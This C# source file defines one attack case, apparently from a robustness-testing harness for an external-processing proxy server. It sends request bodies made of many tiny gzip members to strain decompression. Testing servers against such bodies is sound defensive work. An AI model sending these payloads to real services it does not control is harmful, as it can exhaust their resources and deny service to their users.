using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;

namespace ExtProc.Attacks.Bodies;

/// <summary>A body of gzip members, a hundred thousand of them, each of one byte.</summary>
internal sealed class GzipOfManyMembers : Attack
{
    public override Attacker By => Attacker.Client;

    public override Config Config => Configs.Replacing;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        ByteString piece = ByteString.CopyFrom(((ReadOnlySpan<byte>)Requests.Gzip("a"u8)).Times(1000));
        await Uploads.SendAsync(peer, Requests.RequestHeaders(more: [("content-type", "text/plain"), ("content-encoding", "gzip")]), Enumerable.Repeat(piece, target.Count(20, 500)));
    });
}
